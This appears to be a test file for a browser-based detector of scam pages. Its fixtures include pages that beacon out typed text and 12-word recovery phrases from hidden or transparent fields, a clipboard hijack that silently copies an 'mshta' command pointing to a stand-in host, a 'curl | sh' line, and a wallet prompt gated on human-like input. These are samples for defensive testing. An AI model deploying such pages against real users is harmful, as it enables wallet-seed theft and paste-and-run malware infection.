import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { browsePages } from './testing/browsePages.ts'
import { findChromium } from './testing/chromium.ts'

const { skip } = findChromium()
const LIMITS = { useMs: 20_000, wordsMs: 30_000, visitMs: 60_000 }

describe('words that a page saves a moment after they were typed', { skip, timeout: 300_000 }, () => {
  const kindsOn = async (html: string) => {
    const { browsing } = await browsePages({ '/': html }, { limits: LIMITS })
    return [...new Set(browsing.typed.map(({ kind }) => kind))].sort()
  }
  const saves = (field: string, hear: string) =>
    `<!doctype html><title>Notes</title><p>Everyone with the link writes along.</p>${field}<script>const field = document.querySelector('[data-f]'); const text = () => field.value ?? field.innerText
const save = (body) => navigator.sendBeacon('/notes', body)
${hear}</script>`

  it('are seen with ordinary words too where it looks every second', async () => {
    const every = `let last = ''; field.addEventListener('input', () => { last = text() }); setInterval(() => { if (last) save(last); last = '' }, 700)`
    assert.deepEqual(await kindsOn(saves('<div data-f contenteditable="true" style="min-height:5rem"></div>', every)), [
      'phrase',
      'sentence',
    ])
  })

  it('are seen with ordinary words too where it waits for the end of typing', async () => {
    const after = `let timer = 0; field.addEventListener('input', () => { clearTimeout(timer); timer = setTimeout(() => save(text()), 600) })`
    const kinds = await kindsOn(saves('<textarea data-f rows="6" cols="60"></textarea><button>Bold</button>', after))
    assert.deepEqual(kinds, ['phrase', 'sentence'])
  })

  it('are seen with ordinary words too where it waits longer, or looks from time to time', async () => {
    const longer = `let timer = 0; field.addEventListener('input', () => { clearTimeout(timer); timer = setTimeout(() => save(text()), 1000) })`
    const times = `let last = ''; setInterval(() => { if (text() !== last) save(last = text()) }, 5000)`
    for (const hear of [longer, times])
      assert.deepEqual(await kindsOn(saves('<textarea data-f rows="6" cols="60"></textarea>', hear)), [
        'phrase',
        'sentence',
      ])
  })

  it('are a phrase where the page waits as long and saves nothing else', async () => {
    const picky = `let timer = 0; field.addEventListener('input', () => { clearTimeout(timer); timer = setTimeout(() => { if (text().trim().split(/\\s+/).every((one) => one.length < 9)) save(text()) }, 500) })`
    assert.deepEqual(await kindsOn(saves('<textarea data-f rows="6" cols="60"></textarea>', picky)), ['phrase'])
  })
})

describe('fields that a person cannot see, or that hold text already', { skip, timeout: 300_000 }, () => {
  const page = (field: string) =>
    `<!doctype html><title>Check</title><h1>Check</h1><button id="b">Go on</button>${field}<script>document.getElementById('b').onclick = () => { document.getElementById('h').select(); document.execCommand('copy') }</script>`
  const copiesOn = async (html: string) => (await browsePages({ '/': html }, { limits: LIMITS })).browsing.copies

  it('keep their text, which is copied without being shown', async () => {
    const [copied] = await copiesOn(
      page(
        '<textarea id="h" style="position:absolute;left:-9999px">mshta https://drop.sandbox.test/v # check 7391</textarea>',
      ),
    )
    assert.match(copied?.text ?? '', /^mshta/)
    assert.equal(copied?.shown, false)
  })

  it('show what is copied where a person sees the field', async () => {
    const [copied] = await copiesOn(
      page(
        '<textarea id="h" rows="3" cols="60" readonly>curl -fsSL https://tool.sandbox.test/install.sh | sh</textarea>',
      ),
    )
    assert.equal(copied?.shown, true)
  })
})

describe('fields that a person fills, however they are made', { skip, timeout: 300_000 }, () => {
  const steals = (field: string, more = '') =>
    `<!doctype html><title>Restore</title>${field}<button id="go">Continue</button><script>const field = document.querySelector('textarea')
${more}
document.getElementById('go').onclick = () => { const words = field.value.trim().split(/\\s+/); if (words.length === 12 && words.every((one) => one.length < 9)) navigator.sendBeacon('/k', field.value) }</script>`
  const kindsOn = async (html: string) =>
    [...new Set((await browsePages({ '/': html }, { limits: LIMITS })).browsing.typed.map(({ kind }) => kind))].sort()
  const AREA = '<textarea rows="4" cols="50"></textarea>'

  it('are filled in a part that is hidden from screen readers', async () => {
    assert.deepEqual(await kindsOn(steals(`<main aria-hidden="true">${AREA}</main>`)), ['phrase'])
  })

  it('are filled where they lie unseen over a mirror of their text', async () => {
    const mirror = `<div style="position:relative"><pre style="height:80px;border:1px solid"></pre><textarea style="position:absolute;inset:0;width:300px;height:80px;opacity:0"></textarea></div>`
    assert.deepEqual(await kindsOn(steals(mirror)), ['phrase'])
  })

  it('are filled where their text goes away, or is only an example', async () => {
    const cleared = `<textarea rows="4" cols="50" onfocus="this.value = ''">one two three</textarea>`
    assert.deepEqual(await kindsOn(steals(cleared)), ['phrase'])
    assert.deepEqual(await kindsOn(steals('<textarea rows="4" cols="50">word word word …</textarea>')), ['phrase'])
  })

  it('are filled where the page writes the words anew', async () => {
    const anew = `field.addEventListener('input', () => { field.value = field.value.replace(/\\s+/g, ' ').split(' ').map((one) => one.length > 8 ? one + '!' : one).join(' ') })`
    assert.deepEqual(await kindsOn(steals(AREA, anew)), ['phrase'])
  })
})

describe('a page that waits for a person', { skip, timeout: 300_000 }, () => {
  it('sees moves of a hand and a scroll to the end', async () => {
    const { requests } = await browsePages(
      {
        '/': `<!doctype html><title>Pass</title><div style="height:4000px">List</div><div id="end">End</div><script>let moves = 0
const open = () => { if (moves < 4 || document.querySelector('button') || innerHeight + scrollY < document.body.scrollHeight - 200) return
const made = document.createElement('button'); made.textContent = 'Mint'; made.onclick = () => window.ethereum.request({ method: 'eth_requestAccounts' }); document.body.append(made) }
addEventListener('mousemove', () => { moves++; open() }); addEventListener('scroll', open)</script>`,
      },
      { limits: LIMITS },
    ).then(({ browsing }) => browsing)
    assert.deepEqual(
      requests.map(({ method }) => method),
      ['eth_requestAccounts'],
    )
  })
})
